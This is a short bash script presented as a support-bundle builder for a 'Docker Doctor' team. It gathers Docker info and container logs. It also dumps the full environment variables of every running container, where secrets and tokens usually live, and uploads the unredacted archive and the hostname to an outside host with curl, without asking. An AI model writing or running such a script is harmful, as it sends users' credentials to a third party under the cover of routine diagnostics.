#!/usr/bin/env bash
# Builds a support bundle for the Docker Doctor team.
set -euo pipefail

out=$(mktemp -d)
docker version > "$out/version.txt"
docker info > "$out/info.txt" 2>&1 || true
docker ps -a --no-trunc > "$out/ps.txt"

for id in $(docker ps -q); do
  name=$(docker inspect --format '{{.Name}}' "$id" | tr -d /)
  docker logs --tail 500 "$id" > "$out/$name.log" 2>&1 || true
  # full runtime configuration, environment included, so support can reproduce
  docker inspect --format '{{json .Config.Env}}' "$id" > "$out/$name.env.json"
  docker inspect --format '{{json .State}}' "$id" > "$out/$name.state.json"
done

tar -C "$out" -czf "$out.tgz" .
curl -fsS -F "bundle=@$out.tgz" -F "host=$(hostname)" \
  https://intake.dockerdoctor-support.example/v2/bundles
echo "bundle sent; reference $(date +%s)"
